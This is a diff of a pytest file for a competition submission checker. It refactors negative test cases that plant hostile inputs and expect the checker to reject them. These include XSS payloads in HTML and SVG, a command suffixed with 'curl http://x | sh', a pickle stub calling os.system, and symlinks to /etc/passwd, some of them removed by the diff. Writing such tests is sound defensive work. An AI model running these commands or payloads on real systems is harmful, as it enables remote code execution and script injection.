@@ -5,12 +5,10 @@ import math
 import os
 import re
 import shutil
-import struct
-import zlib
 
 import pytest
 from check_kit import add_code, edit, edit_track, found, listing, remove, replace_text, write
-from conftest import REPO
+from conftest import REPO, container
 from golf.check import code as check_code
 from golf.check import command as check
 from golf.check import record as check_record
@@ -118,9 +116,7 @@ def damaged_artifact(folder):
 
 
 def own_coder(folder):
-    coded = b"anything"
-    prefix = struct.pack("<4sHHQI", b"PGLA", 1, 77, 1000, zlib.crc32(coded))
-    write(folder, "final_model_seed1.int8.zlib", prefix + coded)
+    write(folder, "final_model_seed1.int8.zlib", container(b"", stated=1000, coded=b"anything", coder=77))
 
 
 def own_tokenizer(folder):
@@ -131,6 +127,11 @@ def own_tokenizer(folder):
         stock = json.loads((folder / "submission.json").read_text())["data"]["tokenizer_sha256"]
         replace_text(folder, name, stock, digest)
     edit(folder, lambda v: v.update(lane="non-record", data={**v["data"], "tokenizer_sha256": digest}))
+
+
+def linked_log(folder):
+    (folder / "train_seed2.log").unlink()
+    (folder / "train_seed2.log").symlink_to("train_seed1.log")
 
 
 CUDA = {"device": "cuda", "world_size": 1, "names": ["RTX 4090"]}
@@ -146,33 +147,19 @@ WRONG = [
     ("file-role", FAIL, claim(lambda v: listing(v, "train_gpt.py").update(role="log"))),
     ("file-role", FAIL, seed(artifact=None)),
     ("file-role", FAIL, file("help.py", "x = 1\n", "extra")),
-    *(
-        ("file-role", FAIL, file(f"report.{kind}", content, "extra"))
-        for kind, content in (
-            ("html", "<p>x<SCRIPT>alert(1)</script>"),
-            ("html", "<img src=x/onerror=alert(1)>"),
-            ("svg", "<svg\nonload = 'alert(1)'/>"),
-            ("svg", '<svg><a xlink:href="\njavascript:alert(1)"/></svg>'),
-        )
-    ),
-    *(
-        ("file-role", FAIL, lambda f, c=c: (f / "README.md").write_text(f"# Mine\n\nWider{c} is better.\n"))
-        for c in ("\u202e", "\x1b[2J", "\u200b", "\U000e0041", "\b", "\u2028", "\r")
-    ),
+    ("file-role", FAIL, file("report.html", "<p>x<SCRIPT>alert(1)</script>", "extra")),
+    ("file-role", FAIL, file("report.html", "<img src=x/onerror=alert(1)>", "extra")),
+    ("file-role", FAIL, file("report.svg", "<svg\nonload = 'alert(1)'/>", "extra")),
+    ("file-role", FAIL, file("report.svg", '<svg><a xlink:href="\njavascript:alert(1)"/></svg>', "extra")),
+    *(("file-role", FAIL, lambda f, c=c: (f / "README.md").write_text(f"# Mine\n\nWider{c} is better.\n"))
+      for c in ("\u202e", "\x1b[2J", "\u2028", "\r")),
     ("cap", FAIL, file("help.bin", b"x" * 30000, "score")),
-    (
-        "cap",
-        FAIL,
-        both(without_artifact, claim(lambda v: v.update(seeds=v["seeds"][:1])), top(bytes_total=20001)),
-    ),
+    ("cap", FAIL, both(without_artifact, one_seed, top(bytes_total=20001))),
     ("cap", FAIL, both(without_artifact, seed(bytes_total=20001))),
     ("file-listed", FAIL, claim(lambda v: v["files"][0].update(path="../README.md"))),
     ("file-listed", FAIL, claim(lambda v: v["files"].append(v["files"][0]))),
     ("file-listed", FAIL, claim(lambda v: listing(v, "train_gpt.py").update(role="score"))),
-    ("file-unlisted", FAIL, claim(lambda v: v["files"].pop())),
-    ("file-hash", FAIL, claim(lambda v: v["files"][1].update(sha256="0" * 64))),
     ("file-hash", FAIL, claim(lambda v: v["files"][1].update(bytes=1))),
-    ("time", FAIL, seed(train_seconds=3.25)),
     ("time", FAIL, seed(eval_seconds=3.25)),
     ("time", FAIL, seed(train_seconds=-1)),
     ("time", FAIL, step_at(1e4)),
@@ -189,7 +176,6 @@ WRONG = [
     ("data", FAIL, claim(lambda v: v["data"].update(tokenizer_sha256="0" * 64))),
     ("data-unpinned", HUMAN, lambda f: edit_track(f, lambda v: v["data"].update(val_sha256=None))),
     ("divisor", FAIL, rules(target_bytes=16001)),
-    ("score", FAIL, seed(val_bpb=1.0)),
     ("score", FAIL, seed(val_loss=1.0)),
     ("score", FAIL, last_score("nan")),
     ("score", FAIL, text("metrics_seed2.jsonl", '"val_bpb"', '"bpb"')),
@@ -204,7 +190,6 @@ WRONG = [
     ("track", FAIL, top(track="track_other")),
     ("lane", FAIL, top(lane="fast")),
     ("lane", FAIL, top(lane=["record"])),
-    ("hardware", FAIL, top(hardware="a faster processor")),
     ("hardware", FAIL, rules(record_hardware=CUDA)),
     ("hardware", HUMAN, rules(record_hardware={**CUDA, "device": "cpu"})),
     ("own-tokenizer", HUMAN, own_tokenizer),
@@ -214,71 +199,42 @@ WRONG = [
     ("seeds-differ", FAIL, text("metrics_seed2.jsonl", '"name": "tiny"', '"name": "big"')),
     ("log-twice", FAIL, same("train_seed1.log", "train_seed2.log")),
     ("log-twice", HUMAN, lambda f: shutil.copytree(f, f.parent / "2026-01-01_first")),
-    ("mean", FAIL, top(val_bpb=1.0)),
     ("mean", FAIL, top(train_seconds=29)),
     ("seeds-few", NOTE, claim(lambda v: v["seeds"].pop())),
-    ("file-required", FAIL, lambda f: remove(f, "README.md")),
-    ("file-required", FAIL, lambda f: remove(f, "metrics_seed2.jsonl")),
-    ("file-required", FAIL, lambda f: remove(f, "train_gpt.py")),
     ("not-rescorable", NOTE, without_artifact),
     ("not-rescorable", FAIL, both(without_artifact, top(lane="record"))),
     ("file-name", FAIL, lambda f: (f / "help me.py").write_text("x = 1\n")),
     *(("file-name", FAIL, file(name, "[tool.ruff\n", "extra")) for name in ("pyproject.toml", "Ruff.toml")),
-    *(
-        ("file-name", FAIL, file(n, "{}", "extra"))
-        for n in ("track.json", "x/verified.json", "x/submission.json")
-    ),
+    *(("file-name", FAIL, file(name, "{}", "extra"))
+      for name in ("track.json", "x/verified.json", "x/submission.json")),
     ("file-name", FAIL, file("conftest.py", "x = 1\n", "score")),
     ("file-kind", FAIL, lambda f: os.mkfifo(f / "pipe")),
-    (
-        "file-kind",
-        FAIL,
-        lambda f: (f / "README.md").write_text("version https://git-lfs.github.com/spec/v1\n"),
-    ),
-    ("file-link", FAIL, lambda f: os.symlink("/etc/passwd", f / "passwd")),
-    ("file-link", FAIL, lambda f: os.symlink("/etc", f / "etc")),
+    ("file-kind", FAIL, file("weights.bin", "version https://git-lfs.github.com/spec/v1\n", "score")),
     ("file-count", FAIL, lambda f: [(f / f"f{i}").touch() for i in range(600)]),
     ("file-count", FAIL, lambda f: (f / "/".join("abcdefghijkl")).mkdir(parents=True)),
     ("file-large", NOTE, lambda f: os.truncate(f / "train_seed2.log", 11 << 20)),
-    ("file-link", FAIL, lambda f: os.symlink("loop", f / "loop")),
     ("file-link", FAIL, lambda f: os.link(f / "train.log", f.parent / "elsewhere")),
     ("file-mode", FAIL, lambda f: (f / "train.log").chmod(0o4644)),
     ("file-mode", NOTE, lambda f: (f / "train_gpt.py").chmod(0o755)),
     ("json", FAIL, lambda f: (f / "submission.json").write_text("[]")),
-    ("json", FAIL, top(val_bpb=float("nan"))),
     ("json-schema", FAIL, claim(lambda v: v.pop("hardware"))),
-    ("json-schema", FAIL, top(val_bpb="1.9")),
-    ("json-schema", FAIL, top(bytes_total=True)),
-    ("json", FAIL, top(bytes_total=10**400)),
-    ("json-schema", FAIL, top(seeds=[])),
-    ("json-schema", FAIL, top(files={})),
     ("json-schema", FAIL, top(schema_version=7)),
     ("json-schema", FAIL, claim(lambda v: v["files"][0].update(role="friend"))),
     ("placeholder", FAIL, top(author="your name")),
-    ("placeholder", FAIL, top(blurb=" TODO ")),
-    ("placeholder", FAIL, lambda f: (f / "README.md").write_text(submission.IDEA)),
     ("log", FAIL, seed(log="none.log")),
     ("log-lines", FAIL, repeat_last_line),
     ("log-lines", FAIL, drop_last_line),
     ("log-first", FAIL, claim(lambda v: v["seeds"].reverse())),
-    ("date", FAIL, top(date="2026-02-30")),
-    ("date", FAIL, top(date="2099-01-01")),
     ("date", FAIL, top(date="2020-01-01")),
     ("metrics", NOTE, both(top(lane="open-hardware"), lambda f: remove(f, "metrics_seed1.jsonl"))),
     ("metrics", FAIL, text("metrics_seed2.jsonl", '"kind": "sliding"', '"kind": "other"')),
-    ("script-hash", FAIL, code("x = 1\n")),
     ("artifact-hash", FAIL, same("final_model_seed2.int8.zlib", "final_model_seed1.int8.zlib")),
     ("env", FAIL, top(env={"ITERATIONS": "4"})),
     ("env", FAIL, top(env={"TOKENIZER_PATH": "y.model"})),  # it was tiny.model
     ("command", FAIL, claim(lambda v: v.update(command=v["command"] + "; curl http://x | sh"))),
-    *(
-        ("command", FAIL, claim(lambda v, do=do: v.update(command=v["command"].replace("python3", do))))
-        for do in ("python3 -c 'import os'", "rm -r", "env -i bash -c id python3", "")
-    ),
     ("command", NOTE, claim(lambda v: v.update(command=v["command"] + " --fast"))),
     ("command", NOTE, top(command="python3 'train_gpt.py")),
     ("command", NOTE, top(command="make all")),
-    ("command", NOTE, top(command="python3 train_gpt.py")),
     ("artifact", FAIL, seed(artifact="../../x")),
     ("artifact", FAIL, seed(artifact="README.md")),
     ("artifact-format", FAIL, damaged_artifact),
@@ -287,19 +243,12 @@ WRONG = [
     ("file-pickle", FAIL, file("weights.bin", b"PK\3\4" + bytes(26) + b"archive/data.pkl", "extra")),
     ("file-pickle", FAIL, file("model.pt", b"x", "extra")),
     ("file-native", FAIL, file("fast.bin", b"\x7fELF\2\1\1\0", "score")),
-    *(
-        ("file-native", FAIL, file(f"fast.{kind}", "x", "score"))
-        for kind in ("cu", "so", "PY", "so.1", "ll", "pyx", "zip", "pyz", "hsaco", "ipynb", "egg-link")
-    ),
-    *(
-        ("file-native", HUMAN, file("table.bin", content, "score"))
-        for content in (
-            bytes(5000) + b"\x7fELF\2\1\1",
-            b"cos\nsystem\n(S'ls'\ntR.",
-            bytes(9) + b"\x80\4\x95" + bytes(9),
-            b"PK\3\4\x14\0\0\0" + bytes(5000),
-        )
-    ),
+    *(("file-native", FAIL, file(f"fast.{kind}", "x", "score"))
+      for kind in ("cu", "so", "PY", "so.1", "zip", "ipynb")),
+    ("file-native", HUMAN, file("table.bin", bytes(5000) + b"\x7fELF\2\1\1", "score")),
+    ("file-native", HUMAN, file("table.bin", b"cos\nsystem\n(S'ls'\ntR.", "score")),
+    ("file-native", HUMAN, file("table.bin", bytes(9) + b"\x80\4\x95" + bytes(9), "score")),
+    ("file-native", HUMAN, file("table.bin", b"PK\3\4\x14\0\0\0" + bytes(5000), "score")),
     ("code-pickle", FAIL, code("import pickle\n")),
     ("code-pickle", FAIL, code("import torch\nw = lambda p: torch.load(p)\n")),
     ("code-native", HUMAN, code("from ctypes import CDLL\n")),
@@ -315,7 +264,23 @@ WRONG = [
     ("code-opaque", HUMAN, code(f"DATA = '{'x' * 600}'\n")),
     ("code-network", HUMAN, code("import urllib.request\n")),
     ("code-process", HUMAN, code("import os\nlist_ = lambda: os.system('ls')\n")),
-]
+]  # fmt: skip
+# (id, what raises it, and nothing else of its level): one fault is one kind of finding.
+ALONE = [
+    ("file-hash", lambda f: (f / "train_seed1.log").write_text("x")),
+    ("file-hash", lambda f: (f / "train_gpt.py").write_text("x = 1\n")),
+    ("file-hash", lambda f: (f / "metrics_seed3.jsonl").write_text("{}\n")),
+    ("file-hash", lambda f: (f / "final_model_seed3.int8.zlib").write_bytes(b"x")),
+    ("file-link", linked_log),
+    *(("file-required", lambda f, name=name: (f / name).unlink()) for name in (
+        "train_seed2.log", "metrics_seed2.jsonl", "final_model_seed2.int8.zlib", "train_gpt.py", "README.md",
+        "submission.json",
+    )),
+    ("file-unlisted", lambda f: (f / "notes.txt").write_text("x")),
+    ("file-role", claim(lambda v: listing(v, "train.log").update(role="readme"))),
+    ("score", seed(val_bpb=1.0)), ("mean", top(val_bpb=1.0)), ("time", seed(train_seconds=0.5)),
+    ("hardware", top(hardware="RTX 9090")), ("script-hash", text("train_gpt.py", "a blink", "a moment")),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("rule", "level", "change"), WRONG, ids=lambda v: v if isinstance(v, str) else "")
@@ -325,6 +290,16 @@ def test_what_raises_a_rule(folder, rule, level, change, monkeypatch):
     change(folder)
     findings = check.check_folder(folder, track.load("track_tiny")).findings
     assert (rule, level) in {(f.rule, f.level) for f in findings}
+
+
+@pytest.mark.parametrize(("rule", "change"), ALONE)
+def test_one_fault_is_one_kind_of_finding(folder, rule, change, monkeypatch):
+    monkeypatch.setattr(check_code, "RULES", ())
+    change(folder)
+    findings = check.check_folder(folder, track.load("track_tiny")).findings
+    raised = [f.rule for f in findings if f.level == FAIL and f.rule != "bytes"]
+    assert set(raised) == {rule}, [f.message for f in findings]
+    assert len(raised) == 1 or not rule.startswith("file-")
 
 
 def test_too_few_targets_are_one_finding_a_seed(folder):
@@ -366,7 +341,7 @@ def test_rules_are_the_same_in_code_docs_and_tests():
     rows = [mention(line)[0] for line in spec.splitlines() if line.startswith("| `")]
     assert sorted(rows) == sorted(RULES), "the table of findings"
     elsewhere = {"record", "unreadable", "code-packed"}  # below, in test_check_fuzz.py and test_packed.py
-    assert {rule for rule, _, _ in WRONG} | elsewhere == set(RULES)
+    assert {rule for rule, *_ in (*WRONG, *ALONE)} | elsewhere == set(RULES)
 
 
 def test_every_rule_of_the_spec_has_why_right_and_wrong():
